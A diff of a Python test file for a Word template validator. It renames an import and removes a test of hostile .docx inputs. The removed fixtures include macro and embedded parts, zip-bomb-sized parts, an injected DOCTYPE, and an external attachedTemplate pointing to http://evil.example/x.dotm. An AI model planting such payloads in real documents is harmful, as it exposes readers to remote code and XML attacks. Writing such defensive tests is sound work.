@@ -2,8 +2,6 @@
 
 import io
 import unicodedata
-import zipfile
-from collections.abc import Callable, Mapping
 from dataclasses import replace
 
 import pytest
@@ -24,7 +22,7 @@ from app.documents.periodic_report import (
     unknown_placeholders,
     write_docx,
 )
-from app.documents.periodic_report.word_file import NotATemplate
+from app.documents.periodic_report.word_guard import NotATemplate
 from app.documents.typefaces import face
 from tests.documents import samples, samples_reports
 from tests.documents.test_periodic_report import LONGEST_OFFICES
@@ -264,52 +262,3 @@ def test_a_loop_that_closes_elsewhere_and_one_too_long_are_refused():
         unknown_placeholders(own_file("{%p for muc in phan %}", "{{ muc.ten }} {% endfor %}"))
     with pytest.raises(NotATemplate, match="dài quá"):
         unknown_placeholders(own_file("{%p for muc in phan %}", "a" * 200_001, "{%p endfor %}"))
-
-
-def changed(change: Callable[[dict[str, bytes]], Mapping[str, bytes]]) -> bytes:
-    """Our own file with other parts."""
-    with zipfile.ZipFile(io.BytesIO(default_template("state"))) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, data in {**parts, **change(parts)}.items():
-            archive.writestr(name, data)
-    return file.getvalue()
-
-
-TYPES, MAIN, RELATED = "[Content_Types].xml", "word/document.xml", "word/_rels/document.xml.rels"
-FROM_ELSEWHERE = (
-    b'<Relationship Id="rId99" TargetMode="External" Target="http://evil.example/x.dotm" Type="http://schemas.'
-    b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
-)
-
-
-@pytest.mark.parametrize(
-    ("file", "why"),
-    [
-        (lambda: b"", "không phải là tệp Word"),
-        (lambda: b"%PDF-1.7", "không phải là tệp Word"),
-        (lambda: default_template("state")[:20_000], "không phải là tệp Word"),
-        (lambda: b"a" * 2_000_001, "nặng quá"),
-        (lambda: changed(lambda parts: {"word/vbaProject.bin": b"x"}), "macro"),
-        (lambda: changed(lambda parts: {"word/embeddings/a.xlsx": b"x"}), "macro hoặc tệp nhúng"),
-        (lambda: changed(lambda parts: {"word/big.xml": b" " * 20_000_001}), "bung ra lớn quá"),
-        (lambda: changed(lambda parts: {f"word/{n}.png": b"" for n in range(301)}), "bung ra lớn quá"),
-        (
-            lambda: changed(lambda parts: {TYPES: parts[TYPES].replace(b"wordprocessingml.document.main", b"x")}),
-            "không phải là tệp Word",
-        ),
-        (
-            lambda: changed(lambda parts: {MAIN: parts[MAIN].replace(b"<w:document", b"<!DOCTYPE a><w:document", 1)}),
-            "không phải là tệp Word",
-        ),
-        (lambda: changed(lambda parts: {MAIN: b"<w:document"}), "không phải là tệp Word"),
-        (
-            lambda: changed(lambda parts: {RELATED: parts[RELATED].replace(b"</Relationships>", FROM_ELSEWHERE)}),
-            "từ nơi khác",
-        ),
-    ],
-)
-def test_a_file_that_is_no_plain_docx_is_refused_in_a_sentence(file: Callable[[], bytes], why: str):
-    with pytest.raises(NotATemplate, match=why):
-        unknown_placeholders(file())
